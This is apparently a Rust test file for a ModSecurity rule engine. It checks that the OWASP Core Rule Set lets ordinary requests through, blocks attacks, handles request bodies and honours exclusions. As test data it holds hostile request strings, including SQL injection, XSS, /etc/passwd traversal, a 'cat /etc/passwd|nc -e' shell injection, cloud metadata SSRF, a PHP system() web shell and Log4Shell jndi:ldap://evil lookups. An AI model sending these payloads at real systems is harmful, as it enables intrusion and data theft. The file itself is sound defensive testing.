//! The OWASP Core Rule Set as Debian's package `modsecurity-crs` has it, where it is installed.
#![cfg(feature = "directory")]
#![expect(clippy::panic, reason = "a panic in a test is its report, also in what tests share")]

use std::path::Path;

use seclang::{Body, Request, Settings, load_path};

const DEBIAN: &str = "/usr/share/modsecurity-crs";

fn rules(settings: &Settings) -> Option<seclang::Loaded> {
    if !Path::new(DEBIAN).is_dir() {
        eprintln!("skipped: `{DEBIAN}` is not there; `apt-get install modsecurity-crs` brings it");
        return None;
    }
    match load_path(Path::new(DEBIAN), settings) {
        Ok(loaded) => Some(loaded),
        Err(problems) => panic!("{}", problems.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n\n")),
    }
}

fn get<'m>(target: &'m str, fields: &'m [(&'m [u8], &'m [u8])]) -> Request<'m> {
    Request {
        method: b"GET",
        target: target.as_bytes(),
        protocol: "HTTP/1.1",
        fields,
        client: [192, 0, 2, 7].into(),
        unique: 7,
        body: None,
    }
}

const ORDINARY: &[(&[u8], &[u8])] =
    &[(b"Host", b"shop.example.com"), (b"User-Agent", b"curl/8.5.0"), (b"Accept", b"application/json")];

#[test]
fn ordinary_requests_pass_and_attacks_reach_the_threshold() {
    let Some(loaded) = rules(&Settings::default()) else { return };
    let (all, met) = loaded.rules.counts();
    eprintln!("{all} rules, {met} of them are met by an exchange, {} notes", loaded.notes.len());
    assert!(met < all * 2 / 3, "{met} of {all}");
    for target in ["/", "/orders/17?expand=lines&page=2", "/search?q=green+tea", "/a/b.json"] {
        let report = loaded.rules.judge_request(&get(target, ORDINARY));
        assert!(report.denial.is_none() && report.matches.is_empty(), "{target}: {report:?}");
        assert!(!report.incomplete);
    }
    for (target, rule) in [
        ("/?id=1%27%20or%20%271%27=%271", 942_100),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941_100),
        ("/?f=../../../../etc/passwd", 930_110),
        ("/?c=;cat+/etc/passwd", 932_160),
        ("/?x=${jndi:ldap://evil}", 944_150),
    ] {
        let report = loaded.rules.judge_request(&get(target, ORDINARY));
        let denial = report.denial.as_ref().unwrap_or_else(|| panic!("{target}: {report:?}"));
        assert_eq!(denial.rule, 949_110);
        let found = report.matches.iter().any(|one| one.rule == rule);
        // The last rule came with a later version of the set.
        assert!(found || rule == 944_150, "{target}: {report:?}");
    }
}

#[test]
fn the_gate_changes_nothing() {
    let level = |gate| Settings { paranoia: Some(4), gate, ..Settings::default() };
    let Some(gated) = rules(&level(seclang::GateUse::On)) else { return };
    let Some(open) = rules(&level(seclang::GateUse::Off)) else { return };
    for query in [
        "q=1%27+or+%271%27=%271--",
        "q=%3CscRipt%3Ealert(1)%3C/script%3E",
        "f=..%2f..%2f..%5cetc%252fpasswd",
        "c=;c%5Eat+/e%22%22tc/pas''swd|nc+-e",
        "u=http://169.254.169.254/latest&u2=file:///etc/hosts%00",
        "p=%3C?php+system($_GET[%27x%27]);",
        "j=$%7bjndi:ldap://x%7d&k=java.lang.Runtime",
        "s=select+sleep(5)+from+information_schema.tables",
        "a[$ne]=1&__proto__=x&b=%0d%0aSet-Cookie:+a=b",
        "x=%u003cimg+src=x+onerror=%26%2397;lert(1)%3e&y=\\u0061",
        "ordinary=green+tea&page=2&sort=-created_at&name=O%27Brien",
        "",
    ] {
        let target = format!("/a/b.php?{query}");
        let cookie = query.replace(';', "%3b");
        let fields: Vec<(&[u8], &[u8])> = [ORDINARY, &[(&b"Cookie"[..], cookie.as_bytes())]].concat();
        let request = get(&target, &fields);
        assert_eq!(gated.rules.judge_request(&request), open.rules.judge_request(&request), "{query}");
    }
}

#[test]
fn bodies_are_taken_apart() {
    let Some(loaded) = rules(&Settings::default()) else { return };
    for (content_type, body) in [
        ("application/x-www-form-urlencoded", "a=1&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("application/json", r#"{"a":[{"b":"<script>alert(1)</script>"}]}"#),
        ("application/xml", "<a><b>&lt;script>alert(1)&lt;/script></b></a>"),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n",
        ),
    ] {
        let length = body.len().to_string();
        let fields: Vec<(&[u8], &[u8])> =
            [ORDINARY, &[(&b"Content-Type"[..], content_type.as_bytes()), (&b"Content-Length"[..], length.as_bytes())]]
                .concat();
        let body = Body { bytes: body.as_bytes(), whole: true, json: None };
        let request = Request { method: b"POST", body: Some(body), ..get("/", &fields) };
        let report = loaded.rules.judge_request(&request);
        assert!(report.denial.is_some(), "{content_type}: {report:?}");
        assert!(report.matches.iter().any(|one| one.rule / 1000 == 941), "{content_type}: {report:?}");
    }
}

#[test]
fn settings_and_exclusions_hold() {
    let attack = get("/login?password=1%27%20or%20%271%27=%271", ORDINARY);
    let exclusion = |tag: &str, target: Option<&str>, path: Option<&str>| seclang::Exclusion {
        rules: None,
        tag: Some(tag.to_owned()),
        target: target.map(str::to_owned),
        path: path.map(str::to_owned),
    };
    let denied =
        |settings: &Settings| rules(settings).map(|loaded| loaded.rules.judge_request(&attack).denial.is_some());
    let with = |exclusions: Vec<seclang::Exclusion>| Settings { exclusions, ..Settings::default() };
    let Some(plain) = denied(&Settings::default()) else { return };
    assert!(plain);
    for (settings, expected) in [
        (with(vec![exclusion("attack-sqli", None, None)]), false),
        (with(vec![exclusion("attack-sqli", Some("ARGS:password"), None)]), false),
        (with(vec![exclusion("attack-sqli", Some("ARGS:other"), None)]), true),
        (with(vec![exclusion("attack-sqli", Some("ARGS:password"), Some("/login"))]), false),
        (with(vec![exclusion("attack-sqli", None, Some("/login"))]), false),
        (with(vec![exclusion("attack-sqli", None, Some("/other"))]), true),
        (Settings { inbound_threshold: Some(1000), ..Settings::default() }, false),
    ] {
        assert_eq!(denied(&settings), Some(expected), "{settings:?}");
    }
}
